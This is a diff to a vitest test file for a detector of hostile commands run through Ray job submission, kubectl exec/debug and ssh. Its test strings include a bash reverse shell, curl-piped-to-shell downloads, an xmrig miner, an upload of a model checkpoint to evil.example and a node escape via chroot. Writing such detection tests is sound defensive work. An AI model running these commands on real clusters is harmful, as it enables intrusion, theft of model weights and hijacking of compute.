@@ -5,7 +5,8 @@
  * MLS-RAY-021), and the recorders silenced (logging, security and telemetry agents stopped,
  * auditing turned off, logs wiped: MLS-POISON-006). The neighbouring everyday commands (a help
  * page, a hook read, a tmpfs mounted, an agent looked for, a job's own log written) raise neither.
- * And a Ray job's entrypoint, read as the command `ray job submit` runs (exec-wrappers.ts).
+ * And commands run elsewhere, read as the commands they are (exec-wrappers.ts): a Ray job's
+ * entrypoint, kubectl exec / run / debug's command, ssh's remote command line.
  */
 import { describe, expect, it } from 'vitest';
 import { execRuleIds, SA } from './exec-events.test-support.js';
@@ -90,12 +91,22 @@ describe('MLS-POISON-006: exec stops a recorder, turns auditing off or wipes log
   });
 });
 
-describe('a Ray job entrypoint is read as the command it runs (ShadowRay)', () => {
+describe('commands run elsewhere are read: a Ray job entrypoint, kubectl exec / run / debug, ssh (lateral movement)', () => {
   it('alerts on a miner, a reverse shell or a script piped into a shell submitted to a Ray cluster from a pod', () => {
     const ray = 'ray job submit --address http://10.0.3.7:8265 --no-wait --';
     expect(execRuleIds(sh(`${ray} python -c "import os; os.system('curl -s http://203.0.113.5/x.sh | sh')"`))).toContain('MLS-RAY-012');
     expect(execRuleIds(sh(`${ray} xmrig -o pool.minexmr.com:443 -u x`))).toContain('MLS-RAY-011');
     expect(execRuleIds(sh(`${ray} bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'`))).toContain('MLS-RAY-015');
+  });
+
+  it('reads the command kubectl runs in another pod and the one ssh runs on another host', () => {
+    expect(execRuleIds(sh("kubectl -n ml-train exec -it trainer-0 -c pytorch -- bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"))).toContain('MLS-RAY-015');
+    expect(execRuleIds(sh("kubectl exec -n ml-train trainer-0 -- sh -c 'curl -T /mnt/ckpt/model.pt https://evil.example/up'"))).toContain('MLS-EXFIL-014');
+    expect(execRuleIds(sh('kubectl debug node/gpu-node-1 -it --image=busybox -- chroot /host sh'))).toContain('MLS-RAY-021');
+    expect(execRuleIds(sh("ssh -i /tmp/k u@10.0.0.5 'curl -s http://203.0.113.5/x.sh | sh'"))).toContain('MLS-RAY-012');
+    for (const line of ['kubectl exec trainer-0 -- nvidia-smi', 'ssh u@10.0.0.5 uptime']) {
+      expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
+    }
   });
 
   it('leaves a training job submitted and the job CLI\'s other commands', () => {
